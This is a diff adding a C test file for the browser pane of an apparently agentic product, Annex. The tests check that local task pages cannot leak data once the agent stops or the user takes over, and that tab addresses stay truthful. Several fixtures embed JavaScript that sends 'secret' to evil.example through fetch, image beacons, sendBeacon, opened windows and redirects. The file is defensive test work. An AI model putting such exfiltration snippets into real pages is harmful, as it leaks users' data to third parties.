@@ -1,0 +1,307 @@
+/* test-pane-hands.c
+ *
+ * What a page may do when Annex has let go of the wheel, or the user has it: a page of the task's
+ * computer has nobody but itself whoever drives, a page that nobody has touched keeps the rules it
+ * was visited under, and the name of a page is that of the one that is shown.
+ *
+ * SPDX-License-Identifier: GPL-3.0-or-later
+ */
+#include "annex-future.h"
+#include "pane-fixture.h"
+
+#include <string.h>
+
+#define COMPUTER "http://localhost.computer:8000/"
+
+static DexFuture *
+port_cb (guint port, gpointer data)
+{
+  PaneFixture *self = data;
+  g_autoptr (GSocketClient) client = g_socket_client_new ();
+  GError *error = NULL;
+  GSocketConnection *connection =
+      g_socket_client_connect_to_host (client, "127.0.0.1", self->port, NULL, &error);
+
+  g_assert_no_error (error);
+  return dex_future_new_take_object (connection);
+}
+
+static void
+hang_cb (SoupServer *server,
+         SoupServerMessage *message,
+         const char *path,
+         GHashTable *query,
+         gpointer data)
+{
+  soup_server_message_pause (message);
+}
+
+static PaneFixture *
+new_fixture (void)
+{
+  PaneFixture *self = pane_fixture_new ();
+
+  pane_fixture_name (self, "site.example");
+  pane_fixture_name (self, "evil.example");
+  pane_fixture_name (self, "bank.example");
+  pane_fixture_page (self, "site.example/", NULL, "<title>Site</title><p>hello");
+  pane_fixture_page (self, "evil.example/x", NULL, "evil");
+  pane_fixture_page (self, "evil.example/go", "Location: http://bank.example/hang", "");
+  soup_server_add_handler (self->web, "/hang", hang_cb, self, NULL);
+  annex_browser_pane_set_computer_ports (self->pane, port_cb, self, NULL);
+  self->answer = g_strdup ("task");
+  return self;
+}
+
+static AnnexBrowserTab *
+front (PaneFixture *self)
+{
+  return annex_browser_pane_get_selected (self->pane);
+}
+
+static void
+assert_nothing_left (PaneFixture *self)
+{
+  g_assert_cmpuint (pane_fixture_count_host (self, "evil.example"), ==, 0);
+  g_assert_null (pane_fixture_row (self, "evil.example"));
+}
+
+/* A key of the user's own, as it comes to the view. */
+static void
+press_key (AnnexBrowserTab *tab)
+{
+  GtkWidget *view = GTK_WIDGET (annex_browser_tab_get_view (tab));
+  g_autoptr (GListModel) controllers = gtk_widget_observe_controllers (view);
+
+  for (guint i = 0; i < g_list_model_get_n_items (controllers); i++)
+    {
+      g_autoptr (GtkEventController) controller = g_list_model_get_item (controllers, i);
+      gboolean was_handled;
+
+      /* WebKit's own wants the event itself. */
+      if (GTK_IS_EVENT_CONTROLLER_KEY (controller) &&
+          gtk_event_controller_get_propagation_phase (controller) == GTK_PHASE_CAPTURE)
+        g_signal_emit_by_name (controller, "key-pressed", GDK_KEY_Shift_L, 0, 0, &was_handled);
+    }
+}
+
+/* ---------------------------------------------------------------- the computer's own page */
+
+static void
+test_computer_page_is_alone (void)
+{
+  static const char page[] =
+      "<title>Mine</title><script>"
+      "setInterval(() => { fetch('http://evil.example/x', {method: 'POST', mode: 'no-cors',"
+      " body: 'secret'}).catch(() => {});"
+      "new Image().src = 'http://evil.example/x?' + Math.random();"
+      "navigator.sendBeacon('http://evil.example/x', 'secret') }, 50);"
+      "if (location.search) setTimeout(() => { location = 'http://evil.example/x?secret' }, 300)"
+      "</script>";
+  g_autoptr (PaneFixture) self = new_fixture ();
+  g_autoptr (GError) error = NULL;
+
+  pane_fixture_page (self, "localhost.computer:8000/", NULL, page);
+  g_assert_true (pane_fixture_visit (self, COMPUTER "?go", &error));
+  annex_browser_end (ANNEX_BROWSER (self->pane));
+  pane_wait_ms (800);
+  assert_nothing_left (self);
+  /* The user's own hand in it opens no way either. */
+  g_assert_true (pane_fixture_visit (self, COMPUTER, &error));
+  annex_browser_pane_take_over (self->pane);
+  press_key (front (self));
+  pane_wait_ms (500);
+  g_assert_cmpint (annex_browser_pane_get_driver (self->pane), ==, ANNEX_DRIVER_USER);
+  assert_nothing_left (self);
+  annex_browser_pane_load (self->pane, front (self), COMPUTER "?go");
+  pane_wait_ms (800);
+  assert_nothing_left (self);
+  /* What the user types there is theirs to open. */
+  annex_browser_pane_load (self->pane, front (self), "http://site.example/");
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (front (self)), "Site"));
+  g_assert_cmpuint (self->asked->len, ==, 0);
+}
+
+/* Nor has a window that it opens and writes into; and no site opens one on it, which could lead the
+ * site's own tab away. */
+static void
+test_computer_page_and_windows (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+  AnnexBrowserTab *site;
+
+  pane_fixture_page (self, "localhost.computer:8000/", NULL, "<title>Mine</title>x");
+  tab = annex_browser_pane_open (self->pane, COMPUTER);
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
+  g_free (pane_fixture_script (
+      self, "w = window.open(''); w.document.write(\"<img src='http://evil.example/x?secret'>\");"
+            "w.fetch('http://evil.example/x', {method: 'POST', mode: 'no-cors', body: 'secret'})"
+            ".catch(() => {});"
+            "setTimeout(() => { w.location = 'http://evil.example/x?secret' }, 200)"));
+  pane_wait_until (g_list_model_get_n_items (annex_browser_pane_get_tabs (self->pane)) == 2);
+  pane_wait_ms (700);
+  assert_nothing_left (self);
+
+  site = annex_browser_pane_open (self->pane, "http://site.example/");
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (site), "Site"));
+  g_free (pane_fixture_script (self, "window.open('" COMPUTER "')"));
+  pane_wait_ms (500);
+  g_assert_true (front (self) == site);
+}
+
+/* A server of the computer may send the one who asks it somewhere else: with what it knows. */
+static void
+test_computer_page_sends_on (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+
+  pane_fixture_page (self, "localhost.computer:8000/", "Location: http://evil.example/x?secret",
+                     "");
+  tab = annex_browser_pane_open (self->pane, COMPUTER);
+  pane_wait_until (annex_browser_tab_get_failure (tab) != NULL);
+  g_assert_error (annex_browser_tab_get_failure (tab), ANNEX_BROWSER_ERROR,
+                  ANNEX_BROWSER_ERROR_REFUSED);
+  assert_nothing_left (self);
+}
+
+/* Once its origin is open, it is so for itself and for no site. */
+static void
+test_no_site_reads_the_computer (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  g_autoptr (GError) error = NULL;
+  AnnexBrowserTab *tab;
+
+  pane_fixture_page (self, "localhost.computer:8000/", NULL, "<title>Mine</title>x");
+  pane_fixture_page (self, "localhost.computer:8000/data", "Access-Control-Allow-Origin: *", "x");
+  pane_fixture_page (self, "site.example/read", NULL,
+                     "<title>Read</title><script>"
+                     "fetch('" COMPUTER "data').catch(() => {});"
+                     "fetch('" COMPUTER "data', {mode: 'no-cors'}).catch(() => {})</script>"
+                     "<iframe src='" COMPUTER "data'></iframe><img src='" COMPUTER "data'>");
+  g_assert_true (pane_fixture_visit (self, COMPUTER, &error));
+  g_assert_true (pane_fixture_visit (self, "http://site.example/read", &error));
+  pane_wait_ms (300);
+  g_assert_false (pane_fixture_was_asked (self, "GET localhost.computer:8000/data"));
+  annex_browser_end (ANNEX_BROWSER (self->pane));
+  tab = annex_browser_pane_open (self->pane, "http://site.example/read");
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Read"));
+  pane_wait_ms (300);
+  g_assert_false (pane_fixture_was_asked (self, "GET localhost.computer:8000/data"));
+}
+
+/* ---------------------------------------------------------------- a page that was left in front */
+
+static void
+test_untouched_page (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  g_autoptr (GError) error = NULL;
+
+  pane_fixture_page (self, "site.example/late", NULL,
+                     "<title>Late</title><script>setInterval(() => {"
+                     "fetch('http://evil.example/x', {method: 'POST', mode: 'no-cors',"
+                     " body: 'secret'}).catch(() => {}) }, 50);"
+                     "setInterval(() => { new Image().src = 'http://bank.example/x?' +"
+                     " Math.random() }, 100)</script>");
+  g_assert_true (pane_fixture_visit (self, "http://site.example/late", &error));
+  annex_browser_end (ANNEX_BROWSER (self->pane));
+  g_ptr_array_set_size (self->rows, 0);
+  pane_wait_until (pane_fixture_row (self, "bank.example") != NULL);
+  pane_wait_ms (300);
+  assert_nothing_left (self);
+  for (guint i = 0; i < self->rows->len; i++)
+    g_assert_cmpstr (((AnnexLedgerEntry *) self->rows->pdata[i])->by, !=, "user");
+  /* Then the user's hand comes, and the page is theirs. */
+  press_key (front (self));
+  pane_wait_until (pane_fixture_row (self, "evil.example") != NULL);
+  g_assert_cmpstr (pane_fixture_row (self, "evil.example")->by, ==, "user");
+  /* Until Annex drives again. */
+  g_assert_true (pane_fixture_visit (self, "http://site.example/late", &error));
+  annex_browser_end (ANNEX_BROWSER (self->pane));
+  pane_wait_ms (200);
+  g_ptr_array_set_size (self->requests, 0);
+  pane_wait_ms (300);
+  g_assert_cmpuint (pane_fixture_count_host (self, "evil.example"), ==, 0);
+}
+
+/* ---------------------------------------------------------------- whose page it is */
+
+static void
+test_name_of_the_page (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+
+  pane_fixture_page (self, "evil.example/trap", NULL,
+                     "<title>Trap</title><script>"
+                     "setTimeout(() => { location = '/go' }, 100);"
+                     "</script>");
+  tab = annex_browser_pane_open (self->pane, "http://evil.example/trap");
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Trap"));
+  pane_wait_until (g_strcmp0 (webkit_web_view_get_uri (annex_browser_tab_get_view (tab)),
+                              "http://bank.example/hang") == 0);
+  pane_wait_ms (100);
+  g_assert_cmpstr (annex_browser_tab_get_uri (tab), ==, "http://evil.example/trap");
+
+  /* Where the user sends it themselves is said at once, but it is not the page's name yet. */
+  annex_browser_pane_load (self->pane, tab, "http://bank.example/hang");
+  pane_wait_until (annex_browser_tab_is_loading (tab));
+  pane_wait_until (g_str_equal (annex_browser_tab_get_uri (tab), "http://bank.example/hang"));
+  g_assert_cmpstr (annex_browser_tab_get_page_uri (tab), ==, "http://evil.example/trap");
+  g_assert_cmpint (annex_browser_tab_get_security (tab), ==, ANNEX_SECURITY_NONE);
+  annex_browser_pane_load (self->pane, tab, "http://site.example/");
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Site"));
+  g_assert_cmpstr (annex_browser_tab_get_uri (tab), ==, "http://site.example/");
+  g_assert_cmpint (annex_browser_tab_get_security (tab), ==, ANNEX_SECURITY_PLAIN);
+
+  /* A page that routes by itself is followed. */
+  g_free (pane_fixture_script (self, "history.pushState({}, '', '/trap/inner')"));
+  pane_wait_until (
+      g_str_equal (annex_browser_tab_get_page_uri (tab), "http://site.example/trap/inner"));
+  g_free (pane_fixture_script (self, "location.hash = 'part'"));
+  pane_wait_until (
+      g_str_equal (annex_browser_tab_get_uri (tab), "http://site.example/trap/inner#part"));
+  g_free (pane_fixture_script (self, "history.back()"));
+  pane_wait_until (g_str_equal (annex_browser_tab_get_uri (tab), "http://site.example/trap/inner"));
+}
+
+/* To hand back a page that is on its way to another site does not hand over that site. */
+static void
+test_handing_back_on_the_way (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  g_autoptr (GError) error = NULL;
+  AnnexBrowserTab *tab;
+
+  pane_fixture_page (self, "evil.example/trap", NULL,
+                     "<title>Trap</title><script>"
+                     "setTimeout(() => { location = '/go' }, 100)</script>");
+  g_assert_true (pane_run (annex_browser_begin (ANNEX_BROWSER (self->pane), "x", NULL), &error));
+  tab = annex_browser_pane_open (self->pane, "http://evil.example/trap");
+  pane_wait_until (g_strcmp0 (webkit_web_view_get_uri (annex_browser_tab_get_view (tab)),
+                              "http://bank.example/hang") == 0);
+  annex_browser_pane_hand_back (self->pane);
+  g_set_str (&self->answer, "no");
+  g_assert_false (pane_fixture_visit (self, "http://bank.example/", &error));
+  g_assert_error (error, ANNEX_BROWSER_ERROR, ANNEX_BROWSER_ERROR_REFUSED);
+  g_assert_cmpuint (self->asked->len, ==, 1);
+}
+
+int
+main (int argc, char **argv)
+{
+  g_test_init (&argc, &argv, NULL);
+  dex_init ();
+  gtk_init ();
+  g_test_add_func ("/browser/hands/computer-page-is-alone", test_computer_page_is_alone);
+  g_test_add_func ("/browser/hands/computer-page-and-windows", test_computer_page_and_windows);
+  g_test_add_func ("/browser/hands/computer-page-sends-on", test_computer_page_sends_on);
+  g_test_add_func ("/browser/hands/no-site-reads-the-computer", test_no_site_reads_the_computer);
+  g_test_add_func ("/browser/hands/untouched-page", test_untouched_page);
+  g_test_add_func ("/browser/hands/name-of-the-page", test_name_of_the_page);
+  g_test_add_func ("/browser/hands/handing-back-on-the-way", test_handing_back_on_the_way);
+  return g_test_run ();
+}
